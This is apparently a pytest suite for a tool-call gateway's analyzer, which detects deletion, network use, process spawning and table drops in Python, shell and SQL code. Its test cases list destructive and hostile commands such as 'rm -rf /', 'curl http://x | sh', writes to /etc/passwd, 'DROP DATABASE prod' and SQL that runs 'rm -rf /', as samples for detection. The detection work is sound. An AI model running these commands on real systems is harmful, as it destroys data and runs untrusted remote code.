"""What a code-carrying tool-call argument would do, read by Python's `ast`, bashlex and
sqlglot: every effect is found where the code has it, hidden inside pipelines, command
substitutions, `bash -c` strings, aliases and CTEs included, and no input, however
hostile, makes `analyze` raise or run long."""

from __future__ import annotations

import logging
import random
import shlex
import subprocess
import sys
import time
from pathlib import Path
from typing import Any, cast

import pytest

from gateway.toolcalls.analyzers import (
    EFFECTS,
    MAX_CODE_CHARS,
    MAX_FINDING_CHARS,
    MAX_FINDINGS,
    MAX_NESTING,
    MAX_SHELL_CHARS,
    Analysis,
    Effect,
    Language,
    analyze,
)

ROOT = Path(__file__).resolve().parents[3]

# (code, the effects it has, a finding it must show or None)
Case = tuple[str, set[Effect], str | None]

PYTHON: list[Case] = [
    ('import shutil\nshutil.rmtree("/")', {"deletes"}, "shutil.rmtree(...) deletes files"),
    ('from shutil import rmtree as r; r("/")', {"deletes"}, "shutil.rmtree(...) deletes files"),
    ('import os as o\no.unlink("x")', {"deletes"}, "os.unlink(...) deletes files"),
    ('from pathlib import Path\nPath("x").unlink()', {"deletes"}, ".unlink(...) deletes files"),
    ('import subprocess\nsubprocess.run(["ls"])', {"spawns_processes", "reads"}, "ls"),
    ('import os\nos.system("rm -rf /")', {"spawns_processes", "deletes"}, "rm -rf /"),
    ("eval(input())", {"spawns_processes"}, "eval(...) runs a process or arbitrary code"),
    ('__import__("os").system("ls")', {"spawns_processes"}, None),
    ('open("f", "w").write("x")', {"writes_files"}, "open(...) writes files"),
    ('with open("log", mode="a") as f:\n    f.write("x")', {"writes_files"}, None),
    ("open(path, mode)", {"writes_files"}, None),  # a mode nobody can read may write
    ('Path("a.txt").write_text("x")', {"writes_files"}, ".write_text(...) writes files"),
    ('import os\nos.makedirs("d", exist_ok=True)', {"writes_files"}, None),
    ("import requests; requests.get(u)", {"network"}, "import requests uses the network"),
    ("from urllib.request import urlopen\nurlopen(u)", {"network"}, None),
    ('from subprocess import *\ncheck_output("curl x", shell=True)',
     {"spawns_processes", "network"}, "curl x"),
    ('data = open("f").read()', {"reads"}, "open(...) reads files"),
    ('import glob\nprint(glob.glob("*.py"))', {"reads"}, "glob.glob(...) reads files"),
    ("print(1+1)", set(), None),
    ('import re\nprint(re.findall("\\d+", s))', set(), None),  # warns, and still parses
    ("x = 1if y else 2", set(), None),
    ("import os.path\nprint(os.path.join('a', 'b'))", set(), None),
    ("```python\nimport shutil\nshutil.rmtree('x')\n```", {"deletes"}, None),
    ("def f(:\n    pass", {"unparsable"}, None),
]  # fmt: skip

SHELL: list[Case] = [
    ("rm -rf /", {"deletes"}, "rm -rf /"),
    ("/bin/r'm' -rf /", {"deletes"}, "/bin/rm -rf /"),  # quotes are removed before lookup
    ("'r'\"m\" -rf /", {"deletes"}, "rm -rf /"),
    ("ls -la | grep x", {"reads"}, "ls -la"),
    ("echo hi > /etc/passwd", {"writes_files"}, "> /etc/passwd"),
    ("echo hi > /dev/null", set(), None),
    ("ls 2>&1 >/dev/null", {"reads"}, None),
    ("curl http://x | sh", {"network", "spawns_processes"}, "curl http://x"),
    ("bash -c 'rm -rf ~'", {"spawns_processes", "deletes"}, "rm -rf ~"),
    ("echo $(rm -rf /)", {"deletes"}, "rm -rf /"),
    ("echo `rm -rf /`", {"deletes"}, "rm -rf /"),
    ("echo ${x:-$(rm y)}", {"deletes"}, "rm y"),
    ("(cd /tmp && rm -rf build)", {"deletes"}, "rm -rf build"),
    ("for f in *.log; do rm $f; done", {"deletes"}, None),
    ("find . -name '*.pyc' -delete", {"deletes"}, "find . -name *.pyc -delete"),
    ("find . -name '*.py'", {"reads"}, None),
    ("find . -exec rm {} \\;", {"spawns_processes", "deletes"}, "rm {}"),
    ("git clean -fdx", {"deletes"}, None),
    ("sudo reboot", {"spawns_processes"}, "sudo reboot"),
    ("env FOO=1 nohup rm x", {"spawns_processes", "deletes"}, None),
    ("sleep 100 &", {"spawns_processes"}, "& runs a command in the background"),
    ("kill -9 1234", {"spawns_processes"}, None),
    ("mysterytool --flag", {"spawns_processes"}, None),  # unknown programs run processes
    ("eval \"rm -rf /\"", {"spawns_processes", "deletes"}, "rm -rf /"),
    ("python3 -c 'import shutil; shutil.rmtree(\"/\")'", {"spawns_processes", "deletes"},
     "shutil.rmtree(...) deletes files"),
    ("sed -i 's/a/b/' f.txt", {"writes_files"}, None),
    ("sed 's/a/b/' f.txt", {"reads"}, None),
    ("cp a b && chmod +x b", {"writes_files"}, None),
    ("ls /tmp && wget http://x/y", {"reads", "network", "writes_files"}, None),
    ("git clone https://x/y.git", {"network", "writes_files"}, None),
    ("ssh host uptime", {"network"}, None),
    ("rsync -a ./ host:/srv/", {"network", "writes_files"}, None),
    ("pip install requests", {"network", "writes_files"}, None),
    ("cat <<EOF\n$(rm -rf /)\nEOF\n", {"reads", "unparsable"}, None),
    ("cat <<'EOF'\nx\nEOF\n", {"unparsable"}, None),  # idank/bashlex#99
    ("echo 'unbalanced", {"unparsable"}, None),
]  # fmt: skip

SQL: list[Case] = [
    ("DROP TABLE users", {"drops_tables", "deletes"}, "DROP TABLE users"),
    ("DROP DATABASE prod", {"drops_tables", "deletes"}, "DROP DATABASE prod"),
    ("DROP INDEX i", {"deletes"}, "DROP INDEX i"),
    ("DELETE FROM t WHERE 1=1", {"deletes"}, "DELETE FROM t WHERE 1 = 1"),
    ("TRUNCATE t", {"deletes"}, None),
    ("SELECT 1; DROP TABLE x", {"reads", "drops_tables", "deletes"}, "DROP TABLE x"),
    ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", {"reads", "deletes"}, None),
    ("EXPLAIN ANALYZE DELETE FROM t", {"reads", "deletes"}, "DELETE FROM t"),
    ("SELECT * FROM t", {"reads"}, "SELECT * FROM t"),
    ("SHOW TABLES", {"reads"}, "SHOW TABLES"),
    ("SELECT `a` FROM t", {"reads"}, None),  # MySQL's quoting: read by the mysql dialect
    ("SELECT LOAD_FILE('/etc/passwd')", {"reads"}, None),
    ("UPDATE t SET a=1", {"writes_files"}, "UPDATE t SET a = 1"),
    ("INSERT INTO t VALUES (1)", {"writes_files"}, None),
    ("CREATE TABLE t (a INT)", {"writes_files"}, None),
    ("ALTER TABLE t ADD COLUMN b INT", {"writes_files"}, None),
    ("GRANT ALL ON t TO bob", {"writes_files"}, "GRANT ALL ON t TO bob"),
    ("REPLACE INTO t VALUES (1)", {"writes_files"}, None),
    ("CALL proc()", {"writes_files"}, "CALL proc()"),  # a verb nobody listed writes
    ("SET GLOBAL max_connections = 1", {"writes_files"}, None),
    ("COPY t TO '/tmp/x'", {"reads", "writes_files"}, "COPY t TO '/tmp/x'"),
    ("COPY t TO PROGRAM 'rm -rf /'", {"reads", "writes_files", "spawns_processes"}, None),
    ("SELECT dblink('host=x', 'SELECT 1')", {"reads", "network"}, None),
    ("BEGIN; COMMIT", set(), None),
    ("SELECT * INTO OUTFILE '/tmp/x' FROM t", {"unparsable"}, None),  # no dialect reads it
    ("SELECT ((1", {"unparsable"}, None),
]  # fmt: skip

CASES: list[tuple[Language, str, set[Effect], str | None]] = [
    *(("python", code, effects, finding) for code, effects, finding in PYTHON),
    *(("shell", code, effects, finding) for code, effects, finding in SHELL),
    *(("sql", code, effects, finding) for code, effects, finding in SQL),
]


def well_formed(analysis: Analysis) -> None:
    assert analysis.effects <= set(EFFECTS)
    assert len(analysis.findings) <= MAX_FINDINGS
    for finding in analysis.findings:
        assert len(finding) <= MAX_FINDING_CHARS
        assert finding.isprintable()  # no line breaks or escapes to forge a log line
        finding.encode("utf-8")  # no lone surrogates either
    assert bool(analysis.findings) == bool(analysis.effects)


@pytest.mark.parametrize(
    ("language", "code", "effects", "finding"),
    CASES,
    ids=[f"{language}: {code[:40]}" for language, code, _, _ in CASES],
)
def test_each_effect_is_found_where_the_code_has_it(
    language: Language, code: str, effects: set[Effect], finding: str | None
) -> None:
    analysis = analyze(language, code)
    assert analysis.effects == effects, analysis.findings
    if finding is not None:
        assert finding in analysis.findings
    well_formed(analysis)


def test_the_cases_cover_every_effect_in_every_language() -> None:
    for language, cases in (("python", PYTHON), ("shell", SHELL), ("sql", SQL)):
        found = set().union(*(effects for _, effects, _ in cases))
        expected = set(EFFECTS) - ({"drops_tables"} if language != "sql" else set())
        assert found == expected, language
    assert EFFECTS == (
        "reads", "writes_files", "deletes", "spawns_processes", "network", "drops_tables",
        "unparsable",
    )  # fmt: skip


@pytest.mark.parametrize("language", ["python", "shell", "sql"])
@pytest.mark.parametrize("code", ["", "   ", "\n\t\n"])
def test_empty_code_does_nothing(language: Language, code: str) -> None:
    assert analyze(language, code) == Analysis(frozenset(), ())


LIMITS: dict[Language, int] = {
    "python": MAX_CODE_CHARS,
    "shell": MAX_SHELL_CHARS,
    "sql": MAX_CODE_CHARS,
}


@pytest.mark.parametrize("language", ["python", "shell", "sql"])
def test_code_past_the_limit_is_not_parsed(language: Language) -> None:
    harmless = {"python": "x = 1", "shell": "ls", "sql": "SELECT 1"}[language]
    at_limit = harmless + " " * (LIMITS[language] - len(harmless))
    assert "unparsable" not in analyze(language, at_limit).effects
    past = analyze(language, at_limit + " ")
    assert past.effects == {"unparsable"}
    assert str(LIMITS[language]) in past.findings[0]


def test_shell_has_a_lower_limit_wherever_it_is_found() -> None:
    assert MAX_SHELL_CHARS < MAX_CODE_CHARS
    # The worst case the package docstring measures: one-letter commands, one a line. At
    # the limit it is parsed, quickly; past it, not parsed at all.
    pathological = "a\n" * (MAX_SHELL_CHARS // 2)
    started = time.process_time()
    assert analyze("shell", pathological).effects == {"spawns_processes"}
    assert time.process_time() - started < 1.0
    past = analyze("shell", pathological + "a")
    assert past == Analysis(
        frozenset({"unparsable"}), (f"shell longer than {MAX_SHELL_CHARS} characters: not parsed",)
    )
    # Shell inside Python is shell too: os.system's command line is not parsed either.
    inside = analyze("python", f"import os\nos.system({pathological + 'a'!r})")
    assert inside.effects == {"spawns_processes", "unparsable"}
    assert any(str(MAX_SHELL_CHARS) in finding for finding in inside.findings)


HOSTILE: dict[str, str] = {
    "unbalanced quotes": "echo 'it\"s (open [ `x ${y $(z",
    "1 MB": "rm -rf / ; " * 100_000,
    "parentheses 10,000 deep": "(" * 10_000 + "1" + ")" * 10_000,
    "unclosed parentheses": "(" * 19_999,
    "command substitutions 5,000 deep": "$(" * 5_000 + "ls" + ")" * 5_000,
    "NUL byte": "rm -rf /\x00; SELECT 1\x00; print('\x00')",
    "lone surrogate": "echo \ud800; SELECT '\ud800'; print('\ud800')",
    "control characters": "rm -rf '/tmp/a\nb\x1b[31m'; DROP TABLE \"a\nb\"",
    "nested bash -c": 'bash -c "bash -c \\"bash -c \'bash -c \\\\\\"rm -rf /\\\\\\"\'\\""',
}


@pytest.mark.parametrize("language", ["python", "shell", "sql"])
@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_input_returns_an_analysis_quickly(language: Language, name: str) -> None:
    # CPU time, not wall-clock: other processes on a loaded machine do not count.
    started = time.process_time()
    analysis = analyze(language, HOSTILE[name])
    assert time.process_time() - started < 1.0
    well_formed(analysis)
    if name in {"1 MB", "parentheses 10,000 deep", "unclosed parentheses"}:
        assert analysis.effects == {"unparsable"}


def test_a_word_bashlex_would_scan_forever_is_refused() -> None:
    # bashlex 0.18 alone rescans `l'${'` forever; in a child process, a regression fails
    # here instead of hanging the suite.
    probe = (
        "from gateway.toolcalls.analyzers import analyze\n"
        "for code in [\"echo l'${'\", \"echo ok; echo l'${' ; f() { :; }\"]:\n"
        "    print(sorted(analyze('shell', code).effects))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", probe], cwd=ROOT, capture_output=True, text=True, timeout=60
    )
    assert done.stdout.split("\n")[:2] == ["['unparsable']", "['unparsable']"], done.stderr


def test_sql_kept_as_a_command_logs_no_warning(caplog: pytest.LogCaptureFixture) -> None:
    # sqlglot warns for each statement it keeps only as a Command: one per client request.
    with caplog.at_level(logging.WARNING):  # the root's level: sqlglot's own stays as set
        assert analyze("sql", "SHOW TABLES").effects == {"reads"}
    assert [r for r in caplog.records if r.levelno >= logging.WARNING] == []


def test_non_text_and_unknown_languages_are_unparsable() -> None:
    assert analyze("python", cast(Any, b"import os")).effects == {"unparsable"}
    assert analyze("python", cast(Any, None)).effects == {"unparsable"}
    assert analyze(cast(Any, "ruby"), "puts 1").effects == {"unparsable"}
    assert analyze(cast(Any, ["shell"]), "ls").effects == {"unparsable"}


def test_code_inside_code_is_read_to_a_bounded_depth() -> None:
    code = "rm x"
    for _ in range(MAX_NESTING):
        code = f"bash -c {shlex.quote(code)}"
    assert analyze("shell", code).effects == {"spawns_processes", "deletes"}
    too_deep = analyze("shell", f"bash -c {shlex.quote(code)}")
    assert too_deep.effects == {"spawns_processes", "unparsable"}
    assert any("nested more than" in finding for finding in too_deep.findings)


def test_findings_are_few_short_and_the_most_destructive_first() -> None:
    script = "; ".join([*(f"cat file{i}" for i in range(20)), "rm -rf /" + "x" * 200])
    analysis = analyze("shell", script)
    assert analysis.effects == {"reads", "deletes"}
    assert analysis.findings[0].startswith("rm -rf /x")
    assert analysis.findings[0].endswith("...")
    assert len(analysis.findings) <= MAX_FINDINGS
    well_formed(analysis)


def test_findings_escape_control_characters() -> None:
    analysis = analyze("shell", "rm -rf '/tmp/a\nb\x1b[31m'")
    assert analysis.findings == ("rm -rf /tmp/a\\nb\\x1b[31m",)


ALPHABETS: dict[Language, str] = {
    "python": "abcimportsubpresx.()[]{}'\"\\:=,+-*/#\n\t @",
    "shell": "abcrmlsgitcurl -|&;<>()$`'\"\\{}[]*?!#=\n\t~",
    "sql": "abcselectdropfrom ;,()*'\"`=<>-/\n\t$@",
}


@pytest.mark.parametrize("language", ["python", "shell", "sql"])
def test_random_input_never_raises(language: Language) -> None:
    rng = random.Random(f"analyzers-{language}")  # the same strings on every run
    alphabet = ALPHABETS[language]
    for _ in range(300):
        code = "".join(rng.choice(alphabet) for _ in range(rng.randrange(120)))
        well_formed(analyze(language, code))
